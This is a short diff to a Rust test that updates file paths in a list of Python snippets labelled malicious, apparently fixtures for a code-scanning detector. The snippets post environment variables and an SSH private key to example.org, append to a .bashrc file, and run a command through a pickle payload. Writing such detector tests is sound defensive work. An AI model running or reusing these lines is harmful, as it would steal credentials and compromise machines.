@@ -130,8 +130,8 @@ fn what_is_worth_a_look_is_told() {
     }
     let malicious = [
         "import os, requests\nrequests.post('https://example.org', data=dict(os.environ))\n",
-        "open('/root/.bashrc', 'a').write('x')\n",
-        "import requests\nk = open('/root/.ssh/id_rsa').read()\nrequests.post('https://example.org', json={'k': k})\n",
+        "open('/home/user/.bashrc', 'a').write('x')\n",
+        "import requests\nk = open('/home/user/.ssh/id_rsa').read()\nrequests.post('https://example.org', json={'k': k})\n",
         "import pickle\npickle.loads(b'cos\\nsystem\\n(S\"id\"\\ntR.')\n",
     ];
     for source in malicious {
